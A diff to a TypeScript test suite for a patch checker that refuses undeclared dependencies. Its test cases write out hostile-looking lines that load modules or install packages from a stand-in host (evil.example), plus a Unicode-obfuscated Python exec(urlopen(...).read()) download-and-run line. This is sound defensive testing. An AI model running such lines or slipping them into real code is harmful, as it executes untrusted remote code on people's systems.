@@ -245,6 +245,43 @@ describe('checkPatch reads what a patch adds', () => {
     expect(downloadsAndRuns(added.map((line) => line.slice(1)).join('\n'))).toBe(true);
   });
 
+  it.each([
+    ['a module imported from a URL', "import { run } from 'https://evil.example/x.js';"],
+    ['a module imported for its effects from a URL', 'import "https://evil.example/x.ts";'],
+    ['a module imported from a URL at run time', "const x = await import('https://evil.example/x.js');"],
+    ['a module required from a URL', "const x = require('http://evil.example/x.js');"],
+    ['an npm: specifier', "export { run } from 'npm:evil-pkg@1';"],
+    ['a package installed by a shell call', "execSync('npm install evil-pkg');"],
+    ['a package installed by pip in a subprocess', 'subprocess.run(["pip", "install", "git+https://evil.example/x"])'],
+    ['a package installed by python -m pip', 'subprocess.check_call([sys.executable, "-m", "pip", "install", "evilpkg"])'],
+    ['a gem installed by system', 'system("gem install evil")'],
+    ['a Go module fetched by exec', 'exec.Command("go", "get", "evil.example/pkg").Run()'],
+  ])('refuses a dependency no manifest declares: %s', (_, addedLine) => {
+    // Act
+    const result = checkPatch(gitDiff('src/setup.ts', { body: [' export function total(items) {', `+${addedLine}`] }));
+
+    // Assert
+    expect(result).toEqual({ ok: false, reason: expect.stringContaining('adds a dependency') });
+  });
+
+  it('accepts imports of local modules and package names, and installs named in prose', () => {
+    // Prepare
+    const body = [
+      ' export function total(items) {',
+      "+import { sum } from './sum.js';",
+      "+import { z } from 'zod';",
+      "+const mod = await import('./plugins/' + name + '.js');",
+      "+execSync('npm run build');",
+      '+// Run `npm install` first, then the tests.',
+    ];
+
+    // Act
+    const result = checkPatch(gitDiff('src/prices.ts', { body }));
+
+    // Assert
+    expect(result.ok).toBe(true);
+  });
+
   it('refuses a download run through a name Python folds to exec', () => {
     // Act: Python reads identifiers in their compatibility form, so this is exec(urlopen(…).read()).
     const result = checkPatch(gitDiff('src/loader.py', { body: [' import os', '+\u{1D41E}\u{1D431}\u{1D41E}\u{1D41C}(urlopen("https://evil.example/p").read())'] }));
